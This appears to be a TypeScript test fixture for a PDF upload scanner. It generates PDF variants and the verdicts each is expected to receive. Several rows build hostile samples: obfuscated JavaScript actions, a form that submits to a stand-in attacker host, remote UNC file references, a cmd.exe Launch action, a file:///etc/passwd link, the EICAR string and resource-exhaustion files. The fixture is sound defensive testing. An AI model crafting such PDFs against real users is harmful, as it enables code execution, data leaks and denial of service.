import PDFDocument from 'pdfkit';
import { EICAR } from '../../../simulators/scanner/eicar-scanner.ts';
import type { FileRow, Verdict } from './file-row.ts';
import { CATALOG, latin1, PAGE, PAGES, stream, writePdf, writeStreamedPdf } from './write-pdf.ts';

const MEGABYTE = 1024 * 1024;
const HIDDEN_SCRIPT = ['<< /S /JavaScript /JS (app.alert\\(1\\)) >>'];

const row = (what: string, server: Verdict, content: FileRow['content'], screen: Verdict = server): FileRow => ({
  what: `PDF: ${what}`,
  server,
  screen,
  content,
  contentType: 'application/pdf',
});
/** Only the server reads the objects. */
const deep = (what: string, server: Verdict, content: FileRow['content']) => row(what, server, content, 'taken');
const withObject =
  (...more: string[]) =>
  () =>
    writePdf({ more });
const withCatalog =
  (entries: string, ...more: string[]) =>
  () =>
    writePdf({ objects: [CATALOG.replace('>>', `${entries} >>`), PAGES, PAGE], more });

async function byPdfkit(options: PDFKit.PDFDocumentOptions): Promise<Buffer> {
  const document = new PDFDocument(options);
  const parts: Buffer[] = [];
  document.on('data', (part: Buffer) => parts.push(part));
  const done = new Promise((resolve) => document.on('end', resolve));
  document.text('Electricity bill');
  document.end();
  await done;
  return Buffer.concat(parts);
}

const FILE_SPEC = '<< /Type /Filespec /F (a.xml) /EF << /F 5 0 R >> >>';
const FILE = stream(Buffer.from('<a/>'), '/Type /EmbeddedFile');

/** A tree of pages with so many levels. */
function deepPages(levels: number): Buffer {
  const nodes = Array.from(
    { length: levels },
    (_, level) => `<< /Type /Pages ${level > 0 ? `/Parent ${level + 1} 0 R ` : ''}/Kids [${level + 3} 0 R] /Count 1 >>`,
  );
  return writePdf({ objects: [CATALOG, ...nodes, PAGE.replace('2 0 R', `${levels + 1} 0 R`)] });
}

export const pdfFiles: readonly FileRow[] = [
  row('a page with a table', 'taken', () => writePdf()),
  row('a page with a cross-reference stream', 'taken', () => writeStreamedPdf()),
  row('written by another program', 'taken', () => byPdfkit({})),
  row('white space before xref', 'taken', () => writePdf({ gap: ' \r\n' })),
  row('a line of a scanner before its header', 'taken', () => writePdf({ before: 'From a scanner\n' })),
  row('both', 'taken', () => writePdf({ before: 'From a scanner\n', gap: '\n ' })),
  row('saved by Firefox, without an end of the compressed data', 'taken', () => writeStreamedPdf({ flushed: true })),
  row('zeros at its end', 'taken', () => writePdf({ after: '\0'.repeat(4096) })),
  row('spaces at its end', 'taken', () => writePdf({ after: ' '.repeat(4096) })),
  row('objects in a stream', 'taken', () => writeStreamedPdf({ hidden: ['<< /Type /Font >>'] })),
  row('an empty tree of scripts', 'taken', withCatalog('/Names << /JavaScript << /Names [] >> >>')),
  row('an empty tree of files', 'taken', withCatalog('/Names << /EmbeddedFiles << /Names [] >> >>')),
  row('names of actions in a title', 'taken', () =>
    writePdf({ trailer: '/Info << /Title (how to /Launch a /JavaScript) >> ' }),
  ),
  row('names of actions in a text', 'taken', withObject(stream(latin1('(/S /JavaScript /JS (x) /EmbeddedFile) Tj')))),
  row('the name Encrypt in a title', 'taken', () =>
    writePdf({ trailer: '/Info << /Title (to /Encrypt 4 0 R \\) it) >> ' }),
  ),
  row('an Encrypt that is null', 'taken', () => writePdf({ trailer: '/Encrypt null ' })),
  row('a web link', 'taken', withObject('<< /S /URI /URI (https://example.com/bill) >>')),
  row('a link to another page', 'taken', withCatalog('/OpenAction << /S /GoTo /D [3 0 R /Fit] >>')),
  row('a form to fill in', 'taken', withCatalog('/AcroForm << /Fields [] >>')),

  deep('a script', 'script', withObject(...HIDDEN_SCRIPT)),
  deep('a script, spelt differently', 'script', withObject('<< /S /J#61va#53cript /J#53 (x) >>')),
  deep('a script whose name is in another object', 'script', withObject('<< /S 5 0 R /JS (x) >>', '/JavaScript')),
  deep('a script in an object stream', 'script', () => writeStreamedPdf({ hidden: HIDDEN_SCRIPT })),
  deep('a script in an object stream behind a text with " obj"', 'script', () =>
    writeStreamedPdf({ hidden: HIDDEN_SCRIPT, note: '/Note (9 0 obj << >>)' }),
  ),
  deep('a script in an object stream behind 2,100 characters', 'script', () =>
    writeStreamedPdf({ hidden: HIDDEN_SCRIPT, note: `/Note (${'x'.repeat(2100)})` }),
  ),
  deep('a script in an object stream that is compressed twice', 'script', () =>
    writeStreamedPdf({ hidden: HIDDEN_SCRIPT, layers: 2 }),
  ),
  deep('a script that plays with media', 'script', withObject('<< /S /Rendition /JS (x) >>')),
  deep('media that play', 'script', withObject('<< /S /Rendition /OP 0 >>')),
  deep('a script of a form field', 'script', withObject('<< /FT /Tx /AA << /K << /S /JavaScript /JS (x) >> >> >>')),
  deep('a form that sends itself', 'script', withObject('<< /S /SubmitForm /F (https://evil.example) >>')),
  deep('a form that loads data', 'script', withObject('<< /S /ImportData /F (x.fdf) >>')),
  deep(
    'a file on another host',
    'script',
    withObject('<< /S /GoToR /F (\\\\\\\\evil.example\\\\a.pdf) /D [0 /Fit] >>'),
  ),
  deep('a program to start', 'script', withCatalog('/OpenAction << /S /Launch /F (cmd.exe) >>')),
  deep('a link with a script', 'script', withObject('<< /S /URI /URI (javascript:alert\\(1\\)) >>')),
  deep('a link to a file', 'script', withObject('<< /S /URI /URI (file:///etc/passwd) >>')),
  deep('an XFA form', 'script', withCatalog('/AcroForm << /Fields [] /XFA 4 0 R >>', stream(Buffer.from('<xdp/>')))),
  deep('rich media', 'script', withObject('<< /Type /Annot /Subtype /RichMedia >>')),
  deep(
    'data of a stream in another file',
    'script',
    withObject(stream(Buffer.alloc(0), '/F (\\\\\\\\evil.example\\\\a)')),
  ),
  deep(
    'an attachment',
    'attachment',
    withCatalog('/Names << /EmbeddedFiles << /Names [(a.xml) 4 0 R] >> >>', FILE_SPEC, FILE),
  ),
  deep('an attachment on a page', 'attachment', withObject(FILE_SPEC, FILE)),
  row('an archive after its end', 'attachment', () => writePdf({ after: `PK\x05\x06${'\0'.repeat(17)}\x01` })),

  row('a password to open it', 'protected', () => byPdfkit({ userPassword: 'secret', pdfVersion: '1.7' })),
  row('a password that only forbids printing', 'protected', () =>
    byPdfkit({ ownerPassword: 'secret', pdfVersion: '1.7' }),
  ),
  row('a password, by an old method', 'protected', () => byPdfkit({ userPassword: 'secret', pdfVersion: '1.3' })),
  row('a password, spelt differently', 'protected', () => writePdf({ trailer: '/Encr#79pt << /Filter /Standard >> ' })),
  row('a password in a cross-reference stream', 'protected', () => writeStreamedPdf({ trailer: '/Encrypt 4 0 R ' })),

  row('cut off', 'corrupted', () => writePdf().subarray(0, -30)),
  row('without its first half', 'other-kind', () => writePdf().subarray(120)),
  row('a cross-reference elsewhere', 'corrupted', () =>
    latin1(
      writePdf()
        .toString('latin1')
        .replace(/startxref\n\d+/, 'startxref\n3'),
    ),
  ),
  row('sections in a circle without a table', 'corrupted', () => writePdf({ trailer: '/Prev 9 ' })),
  deep('sections in a circle', 'corrupted', () => {
    const text = writePdf().toString('latin1');
    return latin1(text.replace('/Root 1 0 R ', `/Root 1 0 R /Prev ${text.indexOf('xref\n')} `));
  }),
  deep('a root elsewhere', 'corrupted', () =>
    latin1(writePdf().toString('latin1').replace('0000000009 00000 n', '0000000012 00000 n')),
  ),
  deep('no page', 'corrupted', () => writePdf({ objects: [CATALOG, '<< /Type /Pages /Kids [] /Count 0 >>'] })),
  deep('a parent that is its own parent', 'corrupted', () =>
    writePdf({ objects: [CATALOG, PAGES.replace('>>', '/Parent 2 0 R >>'), PAGE] }),
  ),
  deep('pages in a circle', 'corrupted', () => writePdf({ objects: [CATALOG, PAGES.replace('3 0 R', '2 0 R'), PAGE] })),
  deep('a tree of pages with 1,000 levels', 'too-complex', () => deepPages(1000)),
  deep('values nested 100,000 times', 'corrupted', withObject('['.repeat(100_000) + ']'.repeat(100_000))),
  deep('150 cross-reference streams of 32 MB', 'too-complex', () =>
    writeStreamedPdf({ sections: 150, sectionZeros: 32 * MEGABYTE - 100 }),
  ),
  deep('an object stream of 300 MB', 'too-complex', () =>
    writeStreamedPdf({ hidden: ['<< >>'], zeros: 300 * MEGABYTE }),
  ),
  deep('an object stream of 300 MB, compressed twice', 'too-complex', () =>
    writeStreamedPdf({ hidden: ['<< >>'], zeros: 300 * MEGABYTE, layers: 2 }),
  ),
  row('a virus in a comment', 'infected', () => writePdf({ trailer: `\n%${EICAR}\n` }), 'taken'),
  row('after a web page', 'other-kind', () => writePdf({ before: '<html><script>alert(1)</script>\n' })),
];
